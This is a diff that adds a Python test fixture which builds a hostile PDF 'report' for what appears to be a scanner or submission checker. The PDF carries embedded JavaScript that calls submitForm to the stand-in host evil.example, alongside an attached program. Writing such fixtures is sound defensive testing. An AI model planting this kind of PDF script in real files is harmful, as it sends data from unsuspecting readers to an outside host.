@@ -1,0 +1,15 @@
+"""A report with a script, an attached program and actions that open others."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.hostile.making import handed_in, notebook_bytes, pdf_bytes
+
+
+def build(target: Path) -> None:
+    handed_in(
+        target,
+        notebook_bytes(),
+        pdf_bytes(1, script="app.alert('x'); this.submitForm('http://evil.example');"),
+    )
